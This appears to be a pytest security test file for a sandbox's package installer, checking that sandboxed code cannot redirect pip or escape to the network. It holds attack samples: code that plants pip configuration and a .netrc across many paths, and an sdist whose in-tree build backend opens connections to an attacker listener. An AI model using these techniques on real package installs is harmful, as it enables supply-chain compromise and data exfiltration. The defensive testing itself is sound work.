"""Attack class 3: ``install_packages`` steered by what sandboxed code wrote, or used as a way out.

The application's index is a real HTTP server on the host's loopback serving a PEP 503 page; an
attacker's listener (TCP on the host's loopback, and an abstract unix socket) records every
connection. Sandboxed code plants pip configuration in every place pip reads it and an sdist with
an in-tree build backend that phones home; the index links a file on the attacker's port. None of
it may reach the listeners, and no planted code may run with network.
"""

from __future__ import annotations

import contextlib
import io
import json
import socket
import tarfile
import threading
import uuid
from collections.abc import AsyncIterator, Callable, Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from langchain_sandbox.errors import InvalidInputError
from langchain_sandbox.providers.local import LocalProvider, LocalSession, PackageIndex


class _Listener:
    """Accepts and records connections (a TCP port on 127.0.0.1, or an abstract unix socket)."""

    def __init__(self, family: socket.AddressFamily, address: object) -> None:
        self.server = socket.socket(family, socket.SOCK_STREAM)
        self.server.bind(address)
        self.server.listen(16)
        self.server.settimeout(0.2)
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture
def tcp_listener() -> Iterator[_Listener]:
    listener = _Listener(socket.AF_INET, ("127.0.0.1", 0))
    try:
        yield listener
    finally:
        listener.close()


@pytest.fixture
def abstract_listener() -> Iterator[tuple[_Listener, str]]:
    name = f"lcsbx-attacker-{uuid.uuid4().hex}"
    listener = _Listener(socket.AF_UNIX, "\0" + name)
    try:
        yield listener, name
    finally:
        listener.close()


@pytest.fixture
def index_root(tmp_path: Path, build_wheel: Callable[..., Path]) -> Path:
    """A PEP 503 index directory with ``tinypkg`` 0.1 (served by :func:`index_url`)."""
    root = tmp_path / "index"
    (root / "simple" / "tinypkg").mkdir(parents=True)
    wheel = build_wheel(root, "tinypkg", "0.1", "VALUE = 'from the index'\n")
    (root / "simple" / "tinypkg" / "index.html").write_text(
        f'<a href="/{wheel.name}">{wheel.name}</a>\n'
    )
    return root


@pytest.fixture
def index_url(index_root: Path) -> Iterator[str]:
    handler = partial(_QuietHandler, directory=str(index_root))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/simple/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


class _QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@contextlib.asynccontextmanager
async def _provider(
    tmp_path: Path, index: PackageIndex, isolation: str
) -> AsyncIterator[LocalProvider]:
    provider = LocalProvider(
        base_dir=tmp_path / "sandboxes", package_index=index, isolation=isolation
    )
    try:
        yield provider
    finally:
        await provider.aclose()


_PIP_CONF = """[global]
index-url = {url}
extra-index-url = {url}
find-links = {links}
no-index = false
only-binary = :none:
trusted-host = 127.0.0.1
"""

_PLANT_CONFIG = """
import os
conf = {conf!r}
for path in ("~/.config/pip/pip.conf", "~/.pip/pip.conf", "~/pip.conf", "~/.config/pip.conf",
             "~/.packages/pip.conf", "/tmp/pip.conf", "/tmp/.config/pip/pip.conf",
             "/tmp/.pip/pip.conf", "/tmp/pip/pip.conf"):
    path = os.path.expanduser(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        handle.write(conf)
with open(os.path.expanduser("~/.netrc"), "w") as handle:
    handle.write("machine 127.0.0.1 login x password y\\n")
"""


async def test_pip_configuration_planted_by_sandboxed_code_is_ignored(
    tmp_path: Path, index_url: str, tcp_listener: _Listener, isolation: str
) -> None:
    attacker = f"http://127.0.0.1:{tcp_listener.server.getsockname()[1]}/"
    conf = _PIP_CONF.format(url=attacker + "simple/", links=attacker)
    async with (
        _provider(tmp_path, PackageIndex(index_url=index_url), isolation) as provider,
        await provider.create() as session,
    ):
        planted = await session.run_code(_PLANT_CONFIG.format(conf=conf))
        assert planted.ok, planted.render()
        installed = await session.install_packages(["tinypkg"], timeout=300)
        assert installed.ok, installed.render()
        assert (await session.run_code("import tinypkg\ntinypkg.VALUE")).value == repr(
            "from the index"
        )
    assert tcp_listener.connections == 0


_BACKEND = """
import json, os, socket
attempts = {{}}
for name, family, address in (
    ("loopback", socket.AF_INET, ("127.0.0.1", {port})),
    ("abstract", socket.AF_UNIX, "\\0{abstract}"),
):
    probe = socket.socket(family, socket.SOCK_STREAM)
    probe.settimeout(5)
    try:
        probe.connect(address)
        attempts[name] = "connected"
    except OSError as exc:
        attempts[name] = type(exc).__name__
    finally:
        probe.close()
with open("/home/user/backend-ran.json", "w") as handle:
    json.dump(attempts, handle)

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise RuntimeError("this backend only phones home")
"""


def _sdist(name: str, backend: str) -> bytes:
    """An sdist whose build backend lives in the sdist itself (``backend-path``)."""
    files = {
        f"{name}-1.0/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "phone_home"\nbackend-path = ["."]\n'
        ),
        f"{name}-1.0/phone_home.py": backend,
        f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


async def _backend_attempts(session: LocalSession) -> dict[str, str] | None:
    """What the build backend could reach, or ``None`` if it never ran."""
    result = await session.run_code(
        "import json, os\n"
        "path = '/home/user/backend-ran.json'\n"
        "print(json.dumps(json.load(open(path)) if os.path.exists(path) else None))"
    )
    assert result.ok, result.render()
    found = json.loads(result.stdout)
    return None if found is None else dict(found)


async def test_a_planted_sdist_never_builds_and_an_allowed_build_has_no_network(
    tmp_path: Path,
    index_url: str,
    tcp_listener: _Listener,
    abstract_listener: tuple[_Listener, str],
    isolation: str,
) -> None:
    abstract, abstract_name = abstract_listener
    backend = _BACKEND.format(port=tcp_listener.server.getsockname()[1], abstract=abstract_name)
    sdist = _sdist("phonehome", backend)

    # Planted by sandboxed code, with configuration that points pip at it: never built.
    async with (
        _provider(tmp_path, PackageIndex(index_url=index_url), isolation) as provider,
        await provider.create() as session,
    ):
        await session.write_files({"evil/phonehome-1.0.tar.gz": sdist})
        planted = await session.run_code(
            _PLANT_CONFIG.format(conf=_PIP_CONF.format(url=index_url, links="/home/user/evil"))
        )
        assert planted.ok, planted.render()
        refused = await session.install_packages(["phonehome"], timeout=300)
        assert not refused.ok
        assert await _backend_attempts(session) is None

    # Allowed by the application (its own directory, source builds on): built without network.
    sources = tmp_path / "sources"
    sources.mkdir()
    (sources / "phonehome-1.0.tar.gz").write_bytes(sdist)
    local = PackageIndex(find_links=(sources,), no_index=True, source_builds=True)
    async with (
        _provider(tmp_path / "allowed", local, isolation) as provider,
        await provider.create() as session,
    ):
        built = await session.install_packages(["phonehome"], timeout=300)
        assert not built.ok  # the backend refuses to build; what matters is what it could reach
        attempts = await _backend_attempts(session)
    assert attempts is not None, built.render()
    assert attempts["loopback"] != "connected"
    assert attempts["abstract"] != "connected"
    assert tcp_listener.connections == 0
    assert abstract.connections == 0


async def test_the_networked_step_reaches_the_index_and_nothing_else(
    tmp_path: Path, index_root: Path, index_url: str, tcp_listener: _Listener, isolation: str
) -> None:
    # The index page links a file on the attacker's port (another service on the host).
    attacker = f"http://127.0.0.1:{tcp_listener.server.getsockname()[1]}"
    (index_root / "simple" / "tinypkg" / "index.html").write_text(
        f'<a href="{attacker}/tinypkg-0.2-py3-none-any.whl">tinypkg-0.2-py3-none-any.whl</a>\n'
    )
    async with (
        _provider(tmp_path, PackageIndex(index_url=index_url), isolation) as provider,
        await provider.create() as session,
    ):
        result = await session.install_packages(["tinypkg==0.2"], timeout=300)
    assert not result.ok
    assert "403" in result.stderr or "Forbidden" in result.stderr, result.render()
    assert any(attacker.removeprefix("http://") in notice for notice in result.notices)
    assert tcp_listener.connections == 0


def test_source_builds_need_a_local_index() -> None:
    with pytest.raises(InvalidInputError, match="source_builds"):
        PackageIndex(source_builds=True)
    with pytest.raises(InvalidInputError, match="source_builds"):
        PackageIndex(index_url="https://example.invalid/simple/", source_builds=True)
    assert PackageIndex(find_links=("/srv/sdists",), no_index=True, source_builds=True)
